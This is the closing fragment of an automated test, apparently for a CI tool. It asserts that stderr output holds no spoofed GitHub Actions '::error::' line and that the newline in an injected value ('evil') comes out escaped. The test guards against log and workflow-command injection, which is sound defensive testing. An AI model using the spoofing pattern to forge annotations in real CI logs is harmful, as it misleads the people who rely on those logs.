    expect(run.stderr.split("\n").some((line) => line.trimStart().startsWith("::error::spoofed"))).toBe(false);
    expect(run.stderr).toContain("evil\\n");
  });
});
